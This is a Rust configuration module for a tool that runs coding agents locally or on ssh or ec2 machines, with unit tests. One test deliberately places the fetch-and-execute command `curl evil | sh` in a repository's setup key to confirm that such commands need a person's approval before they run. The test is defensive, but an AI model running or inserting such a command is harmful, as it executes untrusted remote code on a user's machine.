//! The configuration as verbs see it: all layers merged, each value with its origin.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use super::agents::BUILT_IN;
use super::file::{self, Scope};
use super::keys::{self, KEYS, Key};
use super::{AgentDef, Origin, Paths, RepoCommands, Value};
use crate::error::{Error, Result};
use crate::model::Mode;

/// A repository's own file, found from the current directory up to the top of the work tree.
pub const REPO_FILE: &str = ".remote.toml";

/// The configuration, all layers merged.
#[derive(Debug, Clone)]
pub struct Config {
    values: BTreeMap<&'static str, (Value, Origin)>,
    pub(super) agents: BTreeMap<String, AgentDef>,
    pub(super) binaries: BTreeMap<String, PathBuf>,
    repo_file: Option<PathBuf>,
}

/// One thing that is wrong, and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Problem {
    /// `/home/me/.config/remote/config.toml:3`, `REMOTE_TTL`, `--config`.
    pub place: String,
    pub message: String,
    pub hint: Option<String>,
}

impl Default for Config {
    fn default() -> Self {
        let mut config = Self {
            values: BTreeMap::new(),
            agents: BTreeMap::new(),
            binaries: BTreeMap::new(),
            repo_file: None,
        };
        for key in KEYS {
            if let Some(Ok(value)) = key.default.map(|text| key.shape.parse(text)) {
                config.set(key, value, Origin::BuiltIn);
            }
        }
        let mut problems = Vec::new();
        file::apply(
            &mut config,
            BUILT_IN,
            Path::new(""),
            Scope::BuiltIn,
            &mut problems,
        );
        debug_assert!(problems.is_empty(), "{problems:?}");
        config
    }
}

impl Config {
    /// All layers but the flags: built in, config.toml, `.remote.toml` (from `cwd` up), `REMOTE_*`.
    ///
    /// # Errors
    /// A file that is no TOML, an unknown key (with the nearest one), a value of the wrong type: each with
    /// file and line.
    pub fn load(paths: &Paths, cwd: &Path) -> Result<Self> {
        let (config, problems) = Self::read(paths, cwd, |name| std::env::var(name).ok());
        problems
            .into_iter()
            .next()
            .map_or(Ok(config), |first| Err(first.into()))
    }

    /// As [`Config::load`], with any source of variables, and everything that is wrong.
    pub fn read(
        paths: &Paths,
        cwd: &Path,
        var: impl Fn(&str) -> Option<String>,
    ) -> (Self, Vec<Problem>) {
        let mut config = Self::default();
        let mut problems = Vec::new();
        let user = Self::file(paths);
        let repo = find_repo_file(cwd, &paths.home);
        let files = [
            Some((user, Scope::User)),
            repo.clone().map(|p| (p, Scope::Repo)),
        ];
        for (path, scope) in files.into_iter().flatten() {
            match std::fs::read_to_string(&path) {
                Ok(text) => file::apply(&mut config, &text, &path, scope, &mut problems),
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
                Err(e) => problems.push(Problem {
                    place: path.display().to_string(),
                    message: format!("the file cannot be read: {e}"),
                    hint: None,
                }),
            }
        }
        config.repo_file = repo;
        for key in KEYS {
            let Some(text) = var(key.env).filter(|text| !text.is_empty()) else {
                continue;
            };
            if key.name == "agent" && text.parse::<u32>().is_ok() && var("REMOTE_SESSION").is_some()
            {
                // We run inside an agent, whose host says so: this is its number, not a wish.
                continue;
            }
            match key.shape.parse(&text) {
                Ok(value) => config.set(key, value, Origin::Variable(key.env)),
                Err(why) => problems.push(Problem {
                    place: key.env.to_owned(),
                    message: format!("`{}` {why}", key.name),
                    hint: None,
                }),
            }
        }
        (config, problems)
    }

    /// The user's file.
    pub fn file(paths: &Paths) -> PathBuf {
        paths.config.join("config.toml")
    }

    /// The repository's file that was read, if there is one.
    pub fn repo_file(&self) -> Option<&Path> {
        self.repo_file.as_deref()
    }

    /// The top layer: `KEY=VALUE`.
    ///
    /// # Errors
    /// As for a file.
    pub fn set_flag(&mut self, pair: &str) -> Result<()> {
        let (name, text) = pair.split_once('=').ok_or_else(|| {
            Error::config(format!("`--config {pair}` is no KEY=VALUE"))
                .hint("write it as `--config ttl=90m`")
        })?;
        let Some(key) = keys::find(name.trim()) else {
            let error = Error::config(format!("--config: unknown key `{}`", name.trim()));
            return Err(match keys::nearest(name, KEYS.iter().map(|k| k.name)) {
                Some(near) => error.hint(format!("did you mean `{near}`?")),
                None => error.hint("run `remote config show` for the keys there are"),
            });
        };
        let value = key
            .shape
            .parse(text.trim())
            .map_err(|why| Error::config(format!("--config: `{}` {why}", key.name)))?;
        self.set(key, value, Origin::Flag);
        Ok(())
    }

    pub(super) fn set(&mut self, key: &'static Key, value: Value, origin: Origin) {
        self.values.insert(key.name, (value, origin));
    }

    /// A key's value and where it came from.
    pub fn get(&self, name: &str) -> Option<(&Value, &Origin)> {
        self.values.get(name).map(|(value, origin)| (value, origin))
    }

    /// A text key's value.
    pub fn text(&self, name: &str) -> Option<&str> {
        self.get(name).and_then(|(value, _)| file::as_text(value))
    }

    fn time(&self, name: &str) -> Option<Duration> {
        match self.get(name) {
            Some((Value::Duration(time), _)) => Some(*time),
            _ => None,
        }
    }

    /// The agent of that name.
    ///
    /// # Errors
    /// Unknown: names the nearest.
    pub fn agent(&self, name: &str) -> Result<&AgentDef> {
        self.agents.get(name).ok_or_else(|| {
            let error = Error::config(format!("there is no agent `{name}`"));
            match keys::nearest(name, self.agents.keys().map(String::as_str)) {
                Some(near) => error.hint(format!("did you mean `{near}`?")),
                None => {
                    let all: Vec<_> = self.agents.keys().map(String::as_str).collect();
                    error.hint(format!(
                        "there are {}; add yours to config.toml as `[agents.{name}]`, or run any \
                         program with `remote dispatch --command '{name} …'`",
                        all.join(", ")
                    ))
                }
            }
        })
    }

    /// All agents by name.
    pub fn agents(&self) -> impl Iterator<Item = (&str, &AgentDef)> {
        self.agents.iter().map(|(n, a)| (n.as_str(), a))
    }

    /// The agent that runs a task where none is named.
    pub fn default_agent(&self) -> &str {
        self.text("agent").unwrap_or("claude")
    }

    /// `local`, `ssh` or `ec2`.
    pub fn provider(&self) -> &str {
        self.text("provider").unwrap_or("local")
    }

    /// Whether anybody has chosen a provider; where not, a dispatch says that it runs on this machine.
    pub fn provider_is_chosen(&self) -> bool {
        self.get("provider")
            .is_some_and(|(_, origin)| *origin != Origin::BuiltIn)
    }

    /// The `ssh` provider's machine, `me@box`.
    pub fn host(&self) -> Option<&str> {
        self.text("ssh.host")
    }

    /// How agents run on `provider`: as set, or autonomous on ec2, whose machine is thrown away, and
    /// careful elsewhere.
    pub fn mode(&self, provider: &str) -> Mode {
        match self.text("mode") {
            Some("autonomous") => Mode::Autonomous,
            Some(_) => Mode::Careful,
            None if provider == "ec2" => Mode::Autonomous,
            None => Mode::Careful,
        }
    }

    /// `--ttl` where it is not given; `None` where nothing is set: the provider's default holds.
    pub fn ttl(&self) -> Option<Duration> {
        self.time("ttl")
    }

    pub fn idle(&self) -> Option<Duration> {
        self.time("idle")
    }

    pub fn linger(&self) -> Option<Duration> {
        self.time("linger")
    }

    pub fn wait_limit(&self) -> Option<Duration> {
        self.time("wait_limit")
    }

    /// A shell command to run before the agents; see [`Config::unallowed`].
    pub fn setup(&self) -> Option<&str> {
        self.text("setup")
    }

    /// A shell command that says whether the work is good; see [`Config::unallowed`].
    pub fn check(&self) -> Option<&str> {
        self.text("check")
    }

    /// A further key that leaves an attached session, by its tmux name (`C-]`); `~.` always does.
    pub fn detach_key(&self) -> Option<&str> {
        self.text("detach_key")
    }

    /// Lines above the screen that `attach` brings into the terminal's own scrollback.
    pub fn scrollback(&self) -> u32 {
        match self.get("scrollback") {
            Some((Value::Count(lines), _)) => *lines,
            _ => 0,
        }
    }

    /// Host binaries for other systems: `[host.binaries]`, the system's name to the file.
    pub fn host_binaries(&self) -> &BTreeMap<String, PathBuf> {
        &self.binaries
    }

    /// The commands that the repository's file wants to run.
    pub fn repo_commands(&self) -> Option<RepoCommands> {
        let file = self.repo_file.as_ref()?;
        let from_repo = |name: &str| match self.get(name) {
            Some((Value::Text(text), Origin::File(path, _))) if path == file => Some(text.clone()),
            _ => None,
        };
        let (setup, check) = (from_repo("setup"), from_repo("check"));
        (setup.is_some() || check.is_some()).then(|| RepoCommands {
            file: file.clone(),
            setup,
            check,
        })
    }

    /// The commands of the repository's file where nobody has allowed them yet: nothing of it may run.
    pub fn unallowed(&self, paths: &Paths) -> Option<RepoCommands> {
        self.repo_commands().filter(|c| !c.are_allowed(paths))
    }
}

impl From<Problem> for Error {
    fn from(problem: Problem) -> Self {
        let error = Self::config(format!("{}: {}", problem.place, problem.message));
        match problem.hint {
            Some(hint) => error.hint(hint),
            None => error,
        }
    }
}

/// The nearest `.remote.toml`, from `cwd` up to the top of the work tree. Outside of one only `cwd` itself
/// is looked at: a file higher up was not put there for this directory.
fn find_repo_file(cwd: &Path, home: &Path) -> Option<PathBuf> {
    let top = cwd
        .ancestors()
        .take_while(|dir| *dir != home || *dir == cwd)
        .find(|dir| dir.join(".git").exists())
        .unwrap_or(cwd);
    cwd.ancestors()
        .take_while(|dir| dir.starts_with(top))
        .map(|dir| dir.join(REPO_FILE))
        .find(|file| file.is_file())
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Place {
        dir: tempfile::TempDir,
        paths: Paths,
    }

    impl Place {
        fn new(user: &str, repo: &str) -> Result<Self> {
            let dir = tempfile::tempdir()?;
            let paths = Paths::new(|v| (v == "HOME").then(|| dir.path().into()))?;
            std::fs::create_dir_all(&paths.config)?;
            std::fs::create_dir_all(dir.path().join("repo/.git"))?;
            std::fs::create_dir_all(dir.path().join("repo/deep/er"))?;
            std::fs::write(Config::file(&paths), user)?;
            if !repo.is_empty() {
                std::fs::write(dir.path().join("repo").join(REPO_FILE), repo)?;
            }
            Ok(Self { dir, paths })
        }

        fn read(&self, var: impl Fn(&str) -> Option<String>) -> (Config, Vec<String>) {
            let cwd = self.dir.path().join("repo/deep/er");
            let (config, problems) = Config::read(&self.paths, &cwd, var);
            let home = self.dir.path().display().to_string();
            let told = problems
                .into_iter()
                .map(|p| {
                    let hint = p.hint.map(|h| format!(" ({h})")).unwrap_or_default();
                    format!("{}: {}{hint}", p.place.replace(&home, "~"), p.message)
                })
                .collect();
            (config, told)
        }
    }

    #[test]
    fn each_layer_covers_the_one_below_and_values_know_theirs() -> Result<()> {
        let place = Place::new(
            "provider = \"ssh\"\nttl = \"2h\"\nscrollback = 5\n[ssh]\nhost = \"me@box\"\n",
            "ttl = \"3h\"\nagent = \"codex\"\n",
        )?;
        let (mut config, problems) =
            place.read(|v| (v == "REMOTE_AGENT").then(|| "aider".to_owned()));
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!((config.provider(), config.host()), ("ssh", Some("me@box")));
        assert_eq!(config.ttl(), Some(Duration::from_secs(3 * 3600)));
        assert_eq!(config.default_agent(), "aider");
        assert_eq!(config.scrollback(), 5);
        let origin = |c: &Config, name| c.get(name).map(|(_, o)| o.to_string()).unwrap_or_default();
        assert!(origin(&config, "ttl").ends_with("repo/.remote.toml:1"));
        assert!(origin(&config, "ssh.host").ends_with("config.toml:5"));
        assert_eq!(origin(&config, "agent"), "REMOTE_AGENT");
        config.set_flag("agent=claude")?;
        assert_eq!(origin(&config, "agent"), "--config");
        assert!(config.set_flag("agnet=claude").is_err());
        assert!(config.set_flag("ttl").is_err());
        let (inside, _) = place.read(|v| match v {
            "REMOTE_SESSION" => Some("session-abc234".to_owned()),
            "REMOTE_AGENT" => Some("2".to_owned()),
            _ => None,
        });
        assert_eq!(inside.default_agent(), "codex");
        Ok(())
    }

    #[test]
    fn whatever_is_wrong_is_told_with_its_line_and_the_nearest_name() -> Result<()> {
        let place = Place::new(
            "providr = \"ssh\"\nttl = 90\nmode = \"wild\"\nssh = 1\n[agents.x]\ncomand = [\"x\"]\n",
            "idle = \"1m\"\nsetpu = \"x\"\nwild = 1\n",
        )?;
        let (_, problems) = place.read(|v| (v == "REMOTE_TTL").then(|| "0s".to_owned()));
        let file = "~/.config/remote/config.toml";
        let all = problems.join("\n");
        for told in [
            format!("{file}:1: unknown key `providr` (did you mean `provider`?)"),
            format!(
                "{file}:2: `ttl` must be a time such as \"90m\" or \"1h 30m\", not the number 90"
            ),
            format!("{file}:3: `mode` must be one of \"autonomous\", \"careful\", not \"wild\""),
            format!("{file}:4: `ssh` must be a table `[ssh]`, not the number 1"),
            format!("{file}:6: unknown key `agents.x.comand` (did you mean `command`?)"),
            format!("{file}:5: `agents.x` has no command"),
            "~/repo/.remote.toml:1: `idle` is yours to set, not a repository's".to_owned(),
            "~/repo/.remote.toml:2: unknown key `setpu` (did you mean `setup`?)".to_owned(),
            "REMOTE_TTL: `ttl` must be".to_owned(),
        ] {
            assert!(all.contains(&told), "{told}\nnot in\n{all}");
        }
        assert_eq!(problems.len(), 10, "{all}");
        Ok(())
    }

    #[test]
    fn agents_merge_field_by_field() -> Result<()> {
        let place = Place::new(
            "[agents.claude]\ncommand = [\"claude\", \"--model=x\"]\nenv = { A = \"1\" }\n\
             [agents.mine]\ncommand = [\"mine\"]\n[host.binaries]\nlinux-aarch64 = \"/b\"\n",
            "",
        )?;
        let (config, problems) = place.read(|_| None);
        assert!(problems.is_empty(), "{problems:?}");
        let claude = config.agent("claude")?;
        assert_eq!(claude.command, ["claude", "--model=x"]);
        assert_eq!(claude.resume, ["claude", "--continue"]);
        assert_eq!(claude.env.get("A").map(String::as_str), Some("1"));
        assert_eq!(
            config.agent("mine")?.argv("t", Mode::Careful),
            ["mine", "t"]
        );
        let unknown = config.agent("cluade").err().map(|e| e.hints);
        assert_eq!(unknown, Some(vec!["did you mean `claude`?".to_owned()]));
        assert!(config.host_binaries().contains_key("linux-aarch64"));
        Ok(())
    }

    #[test]
    fn a_repositorys_commands_need_a_persons_yes() -> Result<()> {
        let place = Place::new("check = \"mine\"\n", "setup = \"curl evil | sh\"\n")?;
        let (config, _) = place.read(|_| None);
        let commands = config.unallowed(&place.paths);
        let lines: Vec<_> = commands.iter().flat_map(RepoCommands::lines).collect();
        assert_eq!(lines, [("setup", "curl evil | sh")]);
        if let Some(commands) = &commands {
            commands.allow(&place.paths)?;
        }
        assert_eq!(config.unallowed(&place.paths), None);
        Ok(())
    }

    #[test]
    fn nothing_set_means_this_machine_and_nobodys_choice() {
        let config = Config::default();
        assert_eq!(config.provider(), "local");
        assert!(!config.provider_is_chosen());
        assert_eq!(config.mode("ssh"), Mode::Careful);
        assert_eq!(config.mode("ec2"), Mode::Autonomous);
        assert_eq!(config.agents().count(), 6);
    }
}
